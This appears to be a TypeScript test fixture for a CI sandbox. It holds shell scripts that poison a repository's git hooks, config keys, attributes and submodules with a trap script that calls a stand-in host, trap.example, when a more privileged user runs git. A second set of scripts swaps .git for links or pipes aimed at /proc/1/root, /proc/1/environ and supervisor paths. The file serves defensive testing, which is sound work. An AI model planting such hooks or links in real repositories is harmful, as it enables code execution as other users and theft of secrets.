/** What hostile jobs do to their own repository, in the hope that somebody with more rights uses git in it. */

/**
 * Every place of git that can name a program, filled with one. The program tells who ran it by asking the proxy for a
 * host of that name: a refused host becomes an event of the job, also when nothing of the container is left to look at.
 */
export const TRAPS = `
cat > trap.sh <<END
#!/bin/sh
curl -s -m 5 -o /dev/null -x "$HTTP_PROXY" "http://uid-\\$(id -u).trap.example/"
cat
exit 0
END
chmod 755 trap.sh; cp trap.sh "$HOME/trap.sh"; T=$HOME/trap.sh; echo work > work.txt
for hook in pre-commit post-commit post-checkout pre-push commit-msg prepare-commit-msg reference-transaction post-index-change fsmonitor-watchman update pre-receive post-receive post-rewrite pre-auto-gc post-merge; do cp trap.sh .git/hooks/$hook; done
for key in core.fsmonitor core.sshCommand core.gitProxy core.askPass core.editor core.pager core.alternateRefsCommand diff.external diff.trap.textconv diff.trap.command merge.trap.driver filter.trap.clean filter.trap.smudge filter.trap.process gpg.program gpg.ssh.program uploadpack.packObjectsHook remote.origin.uploadpack remote.origin.receivepack trailer.trap.command sequence.editor interactive.diffFilter; do git config "$key" "$T"; done
git config core.hooksPath "$PWD/.git/hooks"; git config credential.helper "!$T"; git config commit.gpgSign true; git config filter.trap.required true
git config protocol.ext.allow always; git config remote.origin.pushurl "ext::$T"; git config "url.ext::$T.insteadOf" http://; git config include.path "$HOME/more"
git config core.worktree /; git config core.bare true; git config http.proxy http://127.0.0.1:1; git config http.sslVerify false; git config core.attributesFile "$PWD/.gitattributes"
printf '[core]\\n\\tfsmonitor = %s\\n\\thooksPath = %s\\n' "$T" "$PWD/.git/hooks" > "$HOME/more"; cp "$HOME/more" "$HOME/.gitconfig"; mkdir -p "$HOME/.config/git"; cp "$HOME/more" "$HOME/.config/git/config"
printf '* filter=trap diff=trap merge=trap ident\\n' > .gitattributes; mkdir -p .git/info "$HOME/.config/git"; cp .gitattributes .git/info/attributes; cp .gitattributes "$HOME/.config/git/attributes"
printf '[submodule "x"]\\n\\tpath = x\\n\\turl = %s\\n\\tupdate = !%s\\n' "$(git config remote.origin.url | sed 's|/[^/]*$|/other-repository.git|')" "$T" > .gitmodules
git init -q nested; (cd nested; git -c core.hooksPath=/dev/null -c user.name=a -c user.email=a@b.c commit -q --allow-empty -m x)
git update-index --add --cacheinfo 160000,"$(git -C nested rev-parse HEAD)",x 2>/dev/null
export GIT_SSH_COMMAND=$T GIT_EXTERNAL_DIFF=$T
git -c core.bare=false -c core.worktree="$PWD" status >/dev/null 2>&1 </dev/null; sh .git/hooks/pre-commit </dev/null
echo TRAPPED`;

/** Something else in the place of a repository's own \`.git\`. */
export const GIT_FOLDERS: Readonly<Record<string, string>> = {
  "a link to the mirror":
    'mv .git "$HOME/was"; ln -s "$(cat "$HOME/was/objects/info/alternates")/.." .git; echo work > work.txt',
  "a link to the supervisor": 'mv .git "$HOME/was"; ln -s /run/hive .git; echo work > work.txt',
  "a file that names another": 'mv .git "$HOME/was"; echo "gitdir: /proc/1/root/run/hive" > .git; echo work > work.txt',
  "a pipe": 'mv .git "$HOME/was"; mkfifo .git; echo work > work.txt',
  nothing: "rm -rf .git; echo work > work.txt",
  "alternates of everybody":
    "printf '/run/hive\\\\n/mirrors/mirrors\\\\n/proc/1/root\\\\n/work\\\\n' >> .git/objects/info/alternates; echo work > work.txt",
  "a head that is a link": "rm .git/HEAD; ln -s /proc/1/environ .git/HEAD; echo work > work.txt",
  "an index that is a pipe": "rm -f .git/index; mkfifo .git/index; echo work > work.txt",
  "folders that nobody may enter":
    "echo work > work.txt; git add work.txt; chmod 000 .git/objects .git/refs .git/info .git",
  "a reference that climbs":
    'mkdir -p .git/refs/heads/x; echo "ref: ../../../../run/hive/x" > .git/HEAD; ln -s /run/hive .git/refs/heads/x/y; echo work > work.txt',
};
